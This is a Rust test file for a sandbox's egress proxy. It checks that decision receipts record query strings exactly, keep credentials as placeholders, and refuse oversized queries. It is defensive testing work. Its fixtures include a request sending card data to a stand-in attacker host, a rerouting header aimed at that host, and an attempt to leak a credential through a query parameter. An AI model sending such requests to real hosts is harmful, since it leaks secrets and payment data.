//! A decision receipt records the request's query string as the sandbox sent
//! it (`action.query`, beside the path): data riding in the query
//! (`POST /api/transfer?to=mallory&amount=9999`) is on the chain, byte for
//! byte, with placeholders where credentials were substituted, never the
//! secrets. A URI without `?` records none; a bare `?` records `""`.
#![allow(clippy::unwrap_used)]

mod support;

use serde_json::Value;
use support::*;

/// The flight-booking session with POST allowed on its web sites.
async fn session_with_web_posts() -> Session {
    let policy = POLICY.replace(
        r#"methods = ["GET", "HEAD"]"#,
        r#"methods = ["GET", "HEAD", "POST"]"#,
    );
    assert_ne!(policy, POLICY);
    Session::start(Options {
        policy,
        ..Options::default()
    })
    .await
}

/// The decision receipts' actions, in chain order, with their verdicts.
fn receipted_actions(s: &Session) -> Vec<(String, Value)> {
    let chain = s.finish_and_verify();
    // The recorded query is no fact the token reads: every decision still
    // re-derives from the token.
    s.rederive(&chain);
    decisions(&chain)
        .into_iter()
        .map(|(_, verdict, _, _, action)| (verdict, action))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_receipt_records_the_query_the_upstream_received_byte_for_byte() {
    let s = session_with_web_posts().await;
    let targets = [
        "/api/transfer?to=mallory&amount=9999",
        "/api/transfer",
        "/a?a=%2F&b",
        "/a?",
        "/q?x=%E2%80%AE%0A&=&&y=a+b%20c",
    ];
    for target in targets {
        let r = s
            .curl(
                &format!("https://kayak.com{target}"),
                &["-X", "POST", "--data-binary", "x=1"],
            )
            .await;
        assert_eq!(r.status, 200, "{target}: {r:?}");
    }
    // A blocked request records its query too (no grant for the host).
    let r = s
        .curl("https://evil.example/collect?card=4111&cvv=123", &[])
        .await;
    assert_eq!(r.status, 403, "{r:?}");
    // And a request the proxy refuses on its own (a rerouting header).
    let r = s
        .curl(
            "https://kayak.com/r?via=header",
            &["-H", "x-forwarded-host: evil.example"],
        )
        .await;
    assert_eq!(r.blocked(), Some("routing-override"), "{r:?}");

    let seen: Vec<String> = s.mock.seen().into_iter().map(|x| x.path).collect();
    assert_eq!(seen, targets, "what the upstream received");

    let actions = receipted_actions(&s);
    let recorded: Vec<(&str, Option<&str>, Option<&str>)> = actions
        .iter()
        .map(|(verdict, a)| {
            (
                verdict.as_str(),
                a["path"].as_str(),
                a.get("query").map(|q| q.as_str().expect("a string")),
            )
        })
        .collect();
    assert_eq!(
        recorded,
        [
            (
                "allow",
                Some("/api/transfer"),
                Some("to=mallory&amount=9999")
            ),
            ("allow", Some("/api/transfer"), None),
            ("allow", Some("/a"), Some("a=%2F&b")),
            ("allow", Some("/a"), Some("")),
            ("allow", Some("/q"), Some("x=%E2%80%AE%0A&=&&y=a+b%20c")),
            ("block", Some("/collect"), Some("card=4111&cvv=123")),
            ("block", Some("/r"), Some("via=header")),
        ]
    );
    // Each allowed receipt's path and query are exactly what went upstream.
    for ((_, action), target) in actions.iter().zip(targets) {
        let mut receipted = action["path"].as_str().unwrap().to_owned();
        if let Some(query) = action.get("query") {
            receipted = format!("{receipted}?{}", query.as_str().unwrap());
        }
        assert_eq!(receipted, target);
    }
    // No query, no member at all (the line is what it was before queries
    // were recorded).
    let text = s.receipts_text();
    let no_query = text
        .lines()
        .find(|l| l.contains(r#""path":"/api/transfer","type":"web"}"#))
        .expect("the receipt without a query");
    assert!(!no_query.contains("query"), "{no_query}");
}

/// A credential that may go in the query (`placement = ["query:key"]`):
/// the upstream receives the secret there; the receipt records the
/// placeholder the sandbox sent, and the secret is nowhere in the receipts
/// or the events, raw or percent-encoded. A placeholder in a query
/// parameter where it may not go is refused at the credential stage, and
/// that receipt records the query too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_in_the_query_is_receipted_as_its_placeholder() {
    let secrets = SECRETS.replace(
        "value = \"Hunter2-real-P@ss\"",
        "value = \"Hunter2-real-P@ss\"\nplacement = [\"query:key\"]",
    );
    let mut s = Session::start(Options {
        secrets,
        ..Options::default()
    })
    .await;
    let login = s.placeholder("united_login");
    let r = s
        .curl(&format!("https://united.com/flights?key={login}&q=x"), &[])
        .await;
    assert_eq!(r.status, 200, "{r:?}");
    let seen = s.mock.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].path, "/flights?key=Hunter2-real-P%40ss&q=x");
    let r = s
        .curl(&format!("https://united.com/flights?note={login}"), &[])
        .await;
    assert_eq!(r.status, 403, "{r:?}");
    assert!(r.blocked().unwrap().contains("credential exfiltration"));

    let events = s.drain_events();
    let actions = receipted_actions(&s);
    let queries: Vec<(&str, Option<&str>)> = actions
        .iter()
        .map(|(verdict, a)| (verdict.as_str(), a["query"].as_str()))
        .collect();
    let (allowed, refused) = (format!("key={login}&q=x"), format!("note={login}"));
    assert_eq!(
        queries,
        [
            ("allow", Some(allowed.as_str())),
            ("block", Some(refused.as_str())),
        ]
    );
    let receipts = std::fs::read(&s.receipts_path).unwrap();
    let events = serde_json::to_vec(&events).unwrap();
    for secret in [LOGIN_SECRET, "Hunter2-real-P%40ss", "Hunter2-real-P"] {
        for (what, bytes) in [("receipts.jsonl", &receipts), ("events", &events)] {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "{secret:?} in {what}"
            );
        }
    }
}

/// The query's size is bounded by the proxy's head limit
/// (`max_header_bytes`, 64 KiB: the request line is part of the head, the
/// `:path` part of the HTTP/2 header list): a longer one is refused before
/// any decision (HTTP/1.1: 431; HTTP/2: 431, or the connection ended when
/// the list is past what h2 reads), and no receipt records it, so no
/// receipt grows with what the sandbox sends.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_query_past_the_head_limit_is_refused_and_not_receipted() {
    let s = session_with_web_posts().await;
    let long = "a".repeat(70 * 1024);
    for http in ["--http1.1", "--http2"] {
        let r = s
            .curl(&format!("https://kayak.com/search?q={long}"), &[http])
            .await;
        let refused = r.status == 431 && r.blocked() == Some("headers-too-large");
        let cut = http == "--http2" && r.status == 0;
        assert!(refused || cut, "{http}: {} {}", r.status, r.stderr);
    }
    assert!(s.mock.seen().is_empty());
    // Under the limit: recorded whole.
    // (8 KiB: the mock upstream, hyper, takes no more than 16 KiB of head.)
    let under = "b".repeat(8 * 1024);
    let r = s
        .curl(&format!("https://kayak.com/search?q={under}"), &[])
        .await;
    assert_eq!(
        r.status,
        200,
        "{:?} {:?} {}",
        r.status,
        r.headers,
        &r.body[..r.body.len().min(300)]
    );
    assert_eq!(s.mock.seen().len(), 1);

    let actions = receipted_actions(&s);
    let queries: Vec<(&str, usize)> = actions
        .iter()
        .filter_map(|(verdict, a)| Some((verdict.as_str(), a["query"].as_str()?.len())))
        .collect();
    assert_eq!(queries, [("allow", 8 * 1024 + 2)]);
    assert!(
        actions.len() >= 2,
        "the refusals are receipted: {actions:?}"
    );
    let text = s.receipts_text();
    assert!(!text.contains(&long[..40 * 1024]));
    assert!(text.lines().all(|l| l.len() < 64 * 1024));
}
